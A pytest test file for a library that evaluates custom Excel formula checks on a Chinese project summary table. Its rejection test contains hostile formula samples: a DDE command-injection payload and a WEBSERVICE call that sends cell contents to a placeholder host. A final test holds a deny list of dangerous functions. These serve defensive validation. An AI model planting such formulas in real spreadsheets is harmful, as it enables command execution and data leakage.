"""Own checks: Excel formulas of the bureau, computed the same everywhere, and harmless whatever is written there."""

from __future__ import annotations

import pytest

from tests.making import money, row, table, text
from xlpy.calculation import calculate
from xlpy.checks.own import FUNCTIONS, own_flags, problem_of
from xlpy.flags import Severity
from xlpy.models import SummaryTable
from xlpy.notice import Notice, OwnCheck, OwnColumn

HEADED = {"sheet": "汇总表"}


def check(formula: str, message: str = "请核对", scope: str = "row", **fields: object) -> OwnCheck:
    return OwnCheck(id="C1", title="自查", formula=formula, message=message, scope=scope, cell="规则!E48", **fields)


def some() -> SummaryTable:
    return table(
        row(4, "降噪", "甲公司", size=text("微型"), benefit=money("6000")),
        row(5, "减重", "甲公司", size=text("大型"), benefit=money("6000")),
        row(6, "虚焊", "乙公司", size=text("微型"), benefit=money("30")),
        row(7, "气密", "丙公司", size=text(None), benefit=money(None)),
    )


def found(*checks: OwnCheck) -> list[tuple[str, str, str]]:
    flags = own_flags(some(), Notice(checks=checks), calculate)
    return [(flag.rule, flag.cell, flag.message) for flag in flags]


def test_a_check_flags_the_rows_for_which_its_formula_is_true() -> None:
    rule = check('=AND([@企业规模]="微型",[@经济效益]>5000)', "微型企业的经济效益是 [@经济效益] 万元")
    assert found(rule) == [("C1", "G4", "微型企业的经济效益是 6000 万元")]


def test_a_check_of_the_whole_table_is_told_once_without_a_row() -> None:
    assert found(check("=SUM([经济效益])>12000", "合计超过 12000 万元", "table")) == [("C1", "", "合计超过 12000 万元")]
    assert found(check("=SUM([经济效益])>13000", "…", "table")) == []


def test_columns_of_the_whole_table_can_be_looked_at_from_a_row() -> None:
    assert [cell for _, cell, _ in found(check("=COUNTIF([项目单位],[@项目单位])>1"))] == ["C4", "C5"]


def test_a_blank_cell_is_blank_for_the_formula() -> None:
    assert [cell for _, cell, _ in found(check('=[@企业规模]=""'))] == ["G7"]
    assert [cell for _, cell, _ in found(check("=ISBLANK([@经济效益(万元)])"))] == ["H7"]


def test_names_may_be_written_as_people_write_them() -> None:
    for formula in ("=（[@[企业规模]]＝“微型”）", '= [@ 企业规模 ] = "微型"', '=[@规模]="微型"'):
        assert [cell for _, cell, _ in found(check(formula))] == ["G4", "G6"], formula


def test_severity_and_switch_are_the_bureaus() -> None:
    [flag] = own_flags(some(), Notice(checks=(check("=[@经济效益]=30", severity=Severity.ERROR),)), calculate)
    assert (flag.severity, flag.row_number, flag.field) == (Severity.ERROR, 6, "benefit")
    assert found(check("=[@经济效益]=30", enabled=False)) == []


def test_own_columns_can_be_used() -> None:
    notice = Notice(columns=(OwnColumn(name="研发投入", kind="number"),), checks=(check("=[@研发投入]>[@经济效益]"),))
    one = row(4, benefit=money("10")).model_copy(update={"own": {"own.研发投入": money("11", "J4")}})
    whole = table(one).model_copy(update={"columns": {**table().columns, "own.研发投入": 10}})
    assert [(f.cell, f.field) for f in own_flags(whole, notice, calculate)] == [("J4", "own.研发投入")]


LOOSE = "整列 [{0}] 只能单独放在 SUM、COUNTIF 这样的函数里；这一行的格子是 [@{0}]"
UNKNOWN = '看不懂“{}”；只能用 [@栏目]、数、"文字"、运算符和常用函数'


@pytest.mark.parametrize(
    ("formula", "scope", "problem"),
    [
        ("[@经济效益]>5", "row", "公式要以 = 开头"),
        ("=[@年度]>5", "row", "没有叫“年度”的栏目"),
        ("=WEBSERVICE(\"http://x/\"&[@项目单位])=1", "row", "不能用函数 WEBSERVICE"),
        ("=INDIRECT([@备注])=1", "row", "不能用函数 INDIRECT"),
        ("=HYPERLINK([@备注])=1", "row", "不能用函数 HYPERLINK"),
        ("=cmd|'/c calc'!A0", "row", UNKNOWN.format("cmd|'/c calc")),
        ("='C:\\[x.xlsx]表'!A1>[@经济效益]", "row", UNKNOWN.format("'C:\\[x.xlsx]")),
        ("=汇总表!H4>5", "row", UNKNOWN.format("汇总表!H4>5")),
        ("=H4>5", "row", UNKNOWN.format("H4>5")),
        ("=SUM([经济效益]", "row", "括号不成对"),
        ("=[@经济效益])>5", "row", "括号不成对"),
        ("=" + "(" * 40 + "[@经济效益]" + ")" * 40, "row", "括号套得太深"),
        ("=1=1", "row", "公式里没有用到任何栏目"),
        ("=[@经济效益]>5", "table", "范围是全表时不能用 [@经济效益]，要用 [经济效益]"),
        ("=[@经济效益]>" + "1" * 1000, "row", "公式超过 1000 个字"),
        ("=[经济效益]>5", "row", LOOSE.format("经济效益(万元)")),
        ("=AND([经济效益]>5)", "row", LOOSE.format("经济效益(万元)")),
        ("=COUNTIF([项目单位],[规模])>1", "row", LOOSE.format("企业规模")),
        ("=COUNTIFS([规模],[@规模],[项目单位],[项目单位])>1", "row", LOOSE.format("项目单位")),
        ("=SUMIFS([效益],[规模],[规模])>1", "row", LOOSE.format("企业规模")),
        ("=SUMPRODUCT(IF([效益]>5,1,0))>1", "table", LOOSE.format("经济效益(万元)")),
        ("=LEN([备注])>5", "table", LOOSE.format("备注")),
    ],
)  # fmt: skip
def test_what_is_no_harmless_formula_is_refused_and_flagged_at_its_own_cell(
    formula: str, scope: str, problem: str
) -> None:
    rule = check(formula, scope=scope)
    assert problem_of(rule, Notice()) == problem
    [flag] = own_flags(some(), Notice(checks=(rule,)), calculate)
    assert (flag.rule, flag.sheet, flag.cell) == ("P02", "规则", "E48")
    assert flag.message == f"自定义检查 C1 的公式算不了：{problem}"


@pytest.mark.parametrize(
    ("formula", "said"),
    [
        ("=[@经济效益]+1", "第 4 行算出来的是“6001”，应当是 TRUE 或 FALSE"),
        ("=[@项目名称]*2>1", "第 4 行算不出来：公式写得不对，或者把文字当成数来算了"),
        ("=[@经济效益]>", "第 4 行算不出来：公式写得不对，或者把文字当成数来算了"),
    ],
)
def test_what_does_not_come_out_true_or_false_is_told_once(formula: str, said: str) -> None:
    assert found(check(formula)) == [("P02", "E48", f"自定义检查 C1 的公式算不了：{said}")]


@pytest.mark.parametrize(
    ("formula", "scope"),
    [
        ('=SUMPRODUCT(([规模]="微型")*([效益]>5000))>1', "table"),
        ('=SUMIFS([效益],[规模],"微型",[项目单位],[@项目单位])>1', "row"),
        ("=COUNTIFS( [规模] , [@规模] )>1", "row"),
        ('=IF(MAX([效益])>MIN([效益]),COUNTIF([规模],"("),0)>1', "table"),
    ],
)
def test_a_whole_column_may_stand_where_every_excel_takes_it_whole(formula: str, scope: str) -> None:
    assert problem_of(check(formula, scope=scope), Notice()) == ""


def test_a_row_that_cannot_be_computed_hides_no_other() -> None:
    rows = table(*(row(n, benefit=money(typed)) for n, typed in ((4, "/"), (5, "7"), (6, "/"))))
    flags = own_flags(rows, Notice(checks=(check("=ABS([@经济效益])>5"),)), calculate)
    assert [(flag.rule, flag.cell) for flag in flags] == [("P02", "E48"), ("C1", "H5")]


def test_a_column_that_the_table_has_not_is_told() -> None:
    rule = check('=[@推荐单位]=""')
    [flag] = own_flags(some(), Notice(checks=(rule,)), calculate)
    assert flag.message == "自定义检查 C1 的公式算不了：汇总表里没有“推荐单位”这一栏"


def test_without_an_engine_each_check_says_so() -> None:
    [flag] = own_flags(some(), Notice(checks=(check("=[@经济效益]>5"),)), None)
    assert flag.message == "自定义检查 C1 的公式算不了：这里没有可用的计算引擎"


def test_no_function_of_the_list_can_reach_beyond_its_arguments() -> None:
    assert not FUNCTIONS & {"INDIRECT", "OFFSET", "CELL", "INFO", "NOW", "TODAY", "RAND", "WEBSERVICE", "HYPERLINK",
                            "CALL", "REGISTER.ID", "RTD", "FILTERXML", "EVALUATE", "GETPIVOTDATA"}  # fmt: skip
